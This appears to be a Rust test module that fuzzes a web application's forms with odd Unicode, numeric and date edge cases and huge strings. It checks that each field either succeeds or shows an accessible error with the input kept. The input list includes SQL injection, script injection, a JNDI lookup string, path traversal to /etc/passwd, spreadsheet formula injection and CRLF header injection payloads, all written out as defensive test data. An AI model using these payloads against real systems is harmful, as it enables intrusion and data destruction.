//! What people, pasted files and robots type into fields: each must give a message beside the field with the text kept, or success.

use super::{Browser, Page};

/// Sixty inputs and more, that make no sense almost everywhere.
pub const NONSENSE: &[&str] = &[
    "",
    " ",
    "\t\r\n",
    "\u{a0}\u{3000}",
    "\u{200b}\u{feff}",
    "\u{0}",
    "a\u{0}b",
    "\u{7}\u{8}\u{1b}[31m",
    "\u{7f}\u{85}",
    "\u{202e}drowssap\u{202c}",
    "\u{2066}\u{5e9}\u{5dc}\u{5d5}\u{5dd}\u{2069}",
    "مرحبا بالعالم",
    "😀",
    "👩‍👩‍👧‍👦🏳️‍🌈",
    "Z\u{351}\u{36b}\u{343}a\u{36a}\u{302}l\u{36c}g\u{35c}o",
    "\u{fffd}\u{ffff}\u{10ffff}",
    "ﬁ ½ ² Ⅷ ＡＢＣ",
    "' OR '1'='1",
    "'; DROP TABLE activities; --",
    "1); DELETE FROM accounts WHERE (1=1",
    "%_%",
    "\\' OR 1=1 #",
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "</textarea><h1>out</h1>",
    "&amp;&lt;&#0;&nbsp;",
    "{{ 7 * 7 }}{% raw %}",
    "${jndi:ldap://example.test/a}",
    "../../../../etc/passwd",
    "C:\\Windows\\win.ini",
    "file:///etc/passwd",
    "javascript:alert(1)",
    "=HYPERLINK(\"http://example.test\")",
    "+1+1",
    "@SUM(A1:A9)",
    "-1",
    "-0",
    "0",
    "00",
    "0.0",
    "1e9",
    "1E-9",
    "0x10",
    "1_000",
    "1 000",
    "1,000.50",
    "1.000,50",
    "٣",
    "２",
    "NaN",
    "Infinity",
    "null",
    "undefined",
    "true",
    "9223372036854775807",
    "9223372036854775808",
    "-9223372036854775809",
    "340282366920938463463374607431768211456",
    "99999999999999999999999999999999999999999999999999",
    "0.30000000000000004",
    "31/02/2026",
    "29-02-2026",
    "0000-00-00",
    "2026-13-01",
    "9999-12-31",
    "31 Nonsember 2026",
    "tomorrow",
    "00:00",
    "24:00",
    "12:60",
    "2:30:00",
    "on",
    "admin",
    "[object Object]",
    "%00%0d%0aSet-Cookie: a=b",
    "a\r\nSubject: spam",
];

/// Huge inputs, made when asked for.
pub fn huge() -> Vec<String> {
    vec![
        "x".repeat(5_000),
        "9".repeat(400),
        "word ".repeat(4_000),
        "é\u{301}".repeat(3_000),
        "\n".repeat(2_000),
    ]
}

/// A form on which all of it is tried, field by field. `with_files` sends it as forms with files are sent.
pub struct Trial<'a> {
    /// The fields that are tried.
    pub fields: &'a [&'a str],
    /// Whether the form is a `multipart/form-data` one.
    pub with_files: bool,
    /// Called before each try: the address and a whole form. One that changes something may make a new thing each time.
    pub form: &'a dyn Fn() -> (String, Vec<(&'a str, &'a str)>),
}

impl Trial<'_> {
    /// Tries it all, and fails at the first answer that is neither success nor a message beside a field with the text kept.
    pub async fn run(&self, browser: &Browser) {
        let huge = huge();
        let inputs = NONSENSE.iter().copied().chain(huge.iter().map(String::as_str));
        for input in inputs {
            for tried in self.fields {
                let (path, whole) = (self.form)();
                let mut fields: Vec<(&str, &str)> =
                    whole.into_iter().filter(|(name, _)| name != tried).collect();
                fields.push((tried, input));
                let page = match self.with_files {
                    true => browser.post_files(&path, &fields, &[]).await,
                    false => browser.post(&path, &fields).await,
                };
                judge(&page, tried, input);
            }
        }
    }
}

pub fn judge(page: &Page, tried: &str, input: &str) {
    let shown: String = input.chars().take(40).collect();
    let about = format!("{} with {tried} = {shown:?}", page.path);
    match page.status.as_u16() {
        200 | 303 => return,
        422 => {}
        other => panic!("{about} gives {other}: {}", page.words()),
    }
    assert!(page.has(".error-summary li"), "{about}: nothing says what is wrong");
    let title = page.text("title");
    assert!(title.starts_with("Error: "), "{about}: whoever hears the title hears “{title}”");
    for href in page.values(".error-summary a", "href") {
        let field = href.trim_start_matches('#');
        assert!(!page.error(field).is_empty(), "{about}: no message beside {field}");
    }
    let control =
        format!("input[name='{tried}']:not([type=radio]):not([type=checkbox]):not([type=password])");
    if page.has(&control) {
        assert_eq!(page.values(&control, "value"), [as_parsed(input)], "{about}: the text is kept");
    }
    let area = format!("textarea[name='{tried}']");
    if page.has(&area) {
        let kept = page.raw_texts(&area);
        assert_eq!(kept, [as_parsed(input)], "{about}: the text is kept");
    }
}

/// What is kept of a text: line ends become one, and a NUL is read as a character that cannot be read.
fn as_parsed(text: &str) -> String {
    text.replace("\r\n", "\n").replace('\r', "\n").replace('\u{0}', "\u{1a}")
}
